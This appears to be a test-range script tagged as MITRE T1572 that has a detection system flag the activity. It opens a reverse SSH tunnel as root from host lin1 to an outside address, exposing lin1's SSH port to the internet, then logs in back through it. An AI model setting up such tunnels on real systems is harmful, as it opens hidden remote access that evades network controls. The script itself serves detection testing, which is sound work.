# SPDX-License-Identifier: Apache-2.0
# what: a port of lin1 offered on the internet with ssh -R
# technique: T1572
# from: lin1
# to: inet
# account: root
# outcome: success
# must: finding forward
. "$RANGE_HERE/item.sh"
ssh -F "$HOME/.ssh/config" -i "$HOME/.ssh/id_ed25519" -fN -R 203.0.113.10:2222:127.0.0.1:22 root@203.0.113.10
sleep 1
says 'lin1' at inet ssh -F "$RANGE/hosts/inet/home/.ssh/config" -i "$RANGE/hosts/inet/home/.ssh/id_ed25519" -p 2222 root@203.0.113.10 \
	'hostname; for i in 1 2 3 4 5; do date; sleep 0.4; done; seq 2000'
